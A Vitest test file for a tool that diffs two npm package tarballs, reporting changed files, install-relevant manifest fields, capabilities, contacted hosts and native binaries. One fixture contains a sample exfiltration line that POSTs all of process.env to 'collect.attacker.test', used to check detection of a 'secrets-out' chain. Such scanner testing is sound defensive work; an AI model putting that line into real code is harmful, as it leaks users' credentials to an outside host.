import { expect, test } from "vitest";
import { packPackage, tar } from "../../../test/kit/tarball.ts";
import { LIMITS } from "../base/limits.ts";
import { analyse } from "./analyse.ts";
import { compareTarballs, mapChanges } from "./release-diff.ts";

type Files = Readonly<Record<string, string>>;

function packed(manifest: object, files: Files = {}) {
  const texts = { "package.json": JSON.stringify({ name: "a", version: "1.0.0", ...manifest }), ...files };
  return analyse(packPackage(Object.entries(texts).map(([path, text]) => ({ path, text }))));
}

test("the same tarball differs in nothing", () => {
  const one = packed({ scripts: { install: "node a.js" } }, { "index.js": "require('node:https').get('https://a.test')" });
  expect(compareTarballs(one, one)).toEqual({
    files: { added: { count: 0, first: [] }, removed: { count: 0, first: [] }, changed: { count: 0, first: [] }, unchanged: 2 },
    size: { before: one.unpacked, after: one.unpacked },
    manifest: [],
    capabilities: { added: [], removed: [] },
    chains: { added: [], removed: [] },
    hosts: { added: { count: 0, first: [] }, removed: { count: 0, first: [] } },
    binaries: { count: 0, first: [] },
  });
});

test("files: what came, what went, what grew or shrank most first", () => {
  const before = packed({}, { "same.js": "1", "little.js": "1", "much.js": "x".repeat(500), "gone.txt": "old" });
  const after = packed({}, { "same.js": "1", "little.js": "12", "much.js": "1", "small.txt": "n", "large.txt": "new" });
  const { files, size } = compareTarballs(before, after);
  expect(files).toEqual({
    added: {
      count: 2,
      first: [
        { path: "large.txt", after: 3 },
        { path: "small.txt", after: 1 },
      ],
    },
    removed: { count: 1, first: [{ path: "gone.txt", before: 3 }] },
    changed: {
      count: 2,
      first: [
        { path: "much.js", before: 500, after: 1 },
        { path: "little.js", before: 1, after: 2 },
      ],
    },
    unchanged: 2,
  });
  expect(size.after - size.before).toBe(8 - 505);
});

test("of a path that stands twice the last one counts, as it does for who unpacks it", () => {
  const twice = analyse(
    tar(
      ["1", "2"]
        .map((body) => ({ path: "package/index.js", body }))
        .concat({ path: "package/package.json", body: '{"name":"a","version":"1.0.0"}' }),
    ),
  );
  const once = analyse(
    tar([
      { path: "package/index.js", body: "2" },
      { path: "package/package.json", body: '{"name":"a","version":"1.0.0"}' },
    ]),
  );
  expect(compareTarballs(once, twice).files).toMatchObject({ changed: { count: 0 }, added: { count: 0 }, unchanged: 2 });
});

test("package.json: what is new, what changed, what is gone, in the fields that decide what is installed and run", () => {
  const before = packed({
    scripts: { install: "node a.js", test: "x" },
    dependencies: { a: "1", b: "1" },
    bin: { a: "a.js" },
    description: "old",
  });
  const after = packed(
    {
      scripts: { postinstall: "node b.js", test: "y" },
      dependencies: { a: "2", c: "1" },
      bin: { a: "b.js" },
      bundleDependencies: ["c"],
      description: "new",
    },
    { "binding.gyp": "{}" },
  );
  const told = compareTarballs(before, after).manifest.map(({ field, key, before: old, after: own }) =>
    [field, key, old ?? "-", own ?? "-"].join(" "),
  );
  expect(told).toEqual([
    "scripts postinstall - node b.js",
    "scripts install node a.js -",
    "dependencies c - 1",
    "dependencies a 1 2",
    "dependencies b 1 -",
    "bin a a.js b.js",
    "build binding.gyp - npm builds it on install",
    "bundleDependencies c - bundled",
  ]);
});

test("code: capabilities, what acts together and hosts are told once, by what they are and not by where they stand", () => {
  const sends = "fetch('https://collect.attacker.test/', { method: 'POST', body: JSON.stringify(process.env) })";
  const [quiet, loud, moved] = [
    packed({}, { "a.js": "exports.a = 1" }),
    packed({}, { "a.js": sends }),
    packed({}, { "b.js": `\n\n${sends}` }),
  ];
  const gained = compareTarballs(quiet, loud);
  expect(gained.capabilities.added.map(({ id }) => id).toSorted()).toEqual(["env-harvest", "network"]);
  expect(gained.chains.added).toMatchObject([{ id: "secrets-out", path: "a.js", line: 1 }]);
  expect(gained.hosts.added).toEqual({ count: 1, first: ["collect.attacker.test"] });
  const lost = compareTarballs(loud, quiet);
  expect(lost.capabilities.removed.map(({ id }) => id).toSorted()).toEqual(["env-harvest", "network"]);
  expect([lost.chains.removed.length, lost.hosts.removed.count]).toEqual([1, 1]);
  const same = compareTarballs(loud, moved);
  expect([same.capabilities.added, same.chains.added, same.hosts.added.count]).toEqual([[], [], 0]);
});

test("machine code that is new or has other bytes is named; long lists are cut, and say how long they were", () => {
  const before = packed({}, { "a.node": "\u007fELF one", "b.node": "\u007fELF one" });
  const after = packed({}, { "a.node": "\u007fELF two", "b.node": "\u007fELF one", "c.node": "\u007fELF one" });
  expect(compareTarballs(before, after).binaries).toEqual({ count: 2, first: ["a.node", "c.node"] });
  const many = LIMITS.listedDifferences + 7;
  const { added } = compareTarballs(
    packed({}),
    packed({}, Object.fromEntries(Array.from({ length: many }, (_, at) => [`f${at}.txt`, "x"]))),
  ).files;
  expect([added.count, added.first.length]).toEqual([many, LIMITS.listedDifferences]);
});

test("keys that every object has are keys like others", () => {
  expect(mapChanges("bin", {}, JSON.parse('{"constructor":"a","__proto__":"b"}') as Record<string, string>)).toEqual([
    { field: "bin", key: "constructor", after: "a" },
    { field: "bin", key: "__proto__", after: "b" },
  ]);
});
